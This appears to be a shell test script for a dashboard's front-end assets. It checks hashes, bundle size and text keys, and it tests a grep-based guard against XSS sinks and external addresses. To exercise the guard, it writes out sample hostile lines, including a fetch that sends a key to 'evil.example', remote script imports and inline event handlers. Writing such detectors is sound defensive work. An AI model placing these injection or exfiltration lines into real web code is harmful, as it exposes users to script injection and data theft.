# SPDX-License-Identifier: Apache-2.0
# The files of the page: their total is small, vendored ones match their release, none names another host, every
# referenced file exists, and every text has a key in the table.
. "$TOP/tests/e2e/expect.sh"
cd "$TOP/controller/dashboard"
sed -n 's/^| `\(.*\)` | `\([0-9a-f]*\)` |$/\2  uplot\/\1/p' uplot/README.md | sha256sum -c --quiet
[ "$(grep -c sha256 uplot/README.md)" = 1 ] && [ "$(ls uplot | wc -l)" = 4 ]

sed -n 's/^| `\(.*\)` | `\([0-9a-f]*\)` |$/\2  \1/p' "$TOP/tests/axe/README.md" | (cd "$TOP/tests/axe" && sha256sum -c --quiet)

# What a browser loads, packed file by file, is below 200 KB.
size=0
for file in assets/* uplot/uPlot.esm.js uplot/uPlot.min.css; do size=$((size + $(gzip -9c "$file" | wc -c))); done
echo "the page: $size bytes gzipped"
[ $size -lt 200000 ]

# What no file of the page may have: an address elsewhere, a style attribute, an inline script or handler, and every way in
# which text becomes markup or code. Prints what it finds in DIR; fails if it finds something.
guard() {
    local found=0
    found_in() { ! grep -nHE "$@"; }
    found_in '(https?:)?//[a-z0-9.-]+\.[a-z]{2,}(/|"|\))|@import|url\([^#]' "$1"/* | grep -v 'www.w3.org/2000/svg' && found=1
    found_in '(inner|outer)HTML|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser|srcdoc|setHTML|javascript:' "$1"/* || found=1
    found_in '(^|[^.A-Za-z])(eval|Function)[ ]*\(|new +Function|set(Timeout|Interval)\( *["`]|import\( *[^" ]|import\("[^.]' "$1"/*.js || found=1
    found_in 'setAttribute(NS)?\([^)]*["`](style|on[a-z]+)["`]|\bstyle: *["`]|cssText|\.on[a-z]+ *=[^=]|createElement(NS)?\([^)]*["`](script|iframe|object|embed|style|link)["`]' "$1"/*.js || found=1
    found_in 'el\( *["`](script|iframe|object|embed|style|link|base|form|meta)["`]' "$1"/*.js || found=1
    found_in '<[^>]*[[:space:]](style|on[a-z]+)=|<style|<base|<script[^>]*>[^<]|<script(>|[[:space:]]+[^s>][^>]*[^"]>)' "$1"/*.html "$1"/*.svg || found=1
    return $found
}
guard assets || exit 1
# A report makes addresses of its own modules, in one line.
mkdir "$WORK/report"
cp report/*.js "$WORK/report"
sed -i 's/await import(addressOf("job.js"))/await import(".\/job.js")/' "$WORK/report/report.js"
guard "$WORK/report" || exit 1

# The guard sees each of them: one line at a time in a copy.
mkdir "$WORK/copy"
sees() { # FILE LINE
    cp assets/{main.js,index.html,style.css,icon.svg} "$WORK/copy"
    printf '%s\n' "$2" >>"$WORK/copy/$1"
    ! guard "$WORK/copy" >/dev/null || { echo "the guard does not see in $1: $2"; exit 1; }
}
while IFS= read -r line; do sees main.js "$line"; done <<'LINES'
main.innerHTML = name;
main.outerHTML = name;
main.insertAdjacentHTML("beforeend", name);
document.write(name);
new DOMParser().parseFromString(name, "text/html");
document.createRange().createContextualFragment(name);
frame.srcdoc = name;
main.setHTMLUnsafe(name);
eval(name);
x = Function("return 1");
x = new Function(name);
setTimeout("go()", 5);
setInterval(`go()`, 5);
import(name);
import("https://evil.example/x.js");
fetch("https://evil.example/?" + key);
fetch("//evil.example/");
node.setAttribute("style", "color: red");
node.setAttribute("onclick", code);
el("b", { style: "color: red" });
node.style.cssText = "color: red";
node.onclick = go;
document.createElement("script");
document.createElement(`iframe`);
el("script", {});
el("form", { action: "/" });
el("a", { href: "javascript:go()" });
LINES
while IFS= read -r line; do sees index.html "$line"; done <<'LINES'
<p style="color: red">x</p>
<img src=x onerror="go()">
<style>p { color: red }</style>
<script>go()</script>
<script type="module">go()</script>
<base href="/x/">
<link rel="stylesheet" href="https://evil.example/x.css">
<script src="//evil.example/x.js"></script>
LINES
while IFS= read -r line; do sees style.css "$line"; done <<'LINES'
@import "x.css";
p { background: url(x.png) }
p { background: url(//evil.example/x.png) }
LINES
sees icon.svg '<svg onload="go()"></svg>'
# What every file has is no finding.
cp assets/{main.js,index.html,style.css,icon.svg} "$WORK/copy"
printf '// a comment // with slashes\nlink.href = "#/job/1";\nnode.style.left = "1px";\n' >>"$WORK/copy/main.js"
guard "$WORK/copy" || exit 1

python3 - <<'PY'
import pathlib, re

assets = {p.name: p.read_text() for p in pathlib.Path("assets").iterdir()}
table = pathlib.Path("assets.c").read_text()
served = dict(re.findall(r'\{ "([a-z.]+)", \w+|\{ "([a-z.]+)"', table) and [(n, 1) for n in re.findall(r'\{ "([a-z.]+)",', table)])
missing = set(assets) - set(served)
assert not missing, f"not in assets.c: {missing}"
for name, text in assets.items():
    for other in re.findall(r'(?:from|import\() ?"\./([a-z.]+)"', text) + re.findall(r'="/assets/([a-z.]+)"', text):
        assert other in served, f"{name} names {other}, which is not served"
    for other in re.findall(r'import \{([^}]*)\} from "\./([a-z]+\.js)"', text):
        for word in filter(None, (w.strip() for w in other[0].split(","))):
            assert re.search(rf"export (async )?(function|const|class) {word}\b", assets[other[1]]), f"{name}: {word} is not in {other[1]}"
keys = set(re.findall(r"\b(\w+): \"", assets["texts.js"]))
for name, text in assets.items():
    for key in re.findall(r'\btext\("(\w+)"', text) + re.findall(r'\b(?:panel|figure|button|column)\("(\w+)"', text):
        assert key in keys, f"{name}: text {key} is not in texts.js"
used = "".join(t for n, t in assets.items() if n != "texts.js")
prefixes = set(re.findall(r"text\(`(\w+)_\$\{", used))
words = set(re.findall(r"\w+", used))
unused = [k for k in keys if k not in words and k.split("_")[0] not in prefixes and not k.endswith("Hint")]
assert not unused, f"no file uses {unused}"

# What the time went into has the names and meanings of the glossary.
time = pathlib.Path("../../docs/GLOSSARY.md").read_text().split("\n## Time\n")[1].split("\n## ")[0]
terms = dict(re.findall(r"^\| ([a-z]+)(?: \(time\))? \| ([^|]*) \|", time, re.M))
shown = dict(re.findall(r'means_(\w+): "([^"]*)"', assets["texts.js"]))
assert shown and shown.items() <= terms.items(), shown.items() - terms.items()
PY
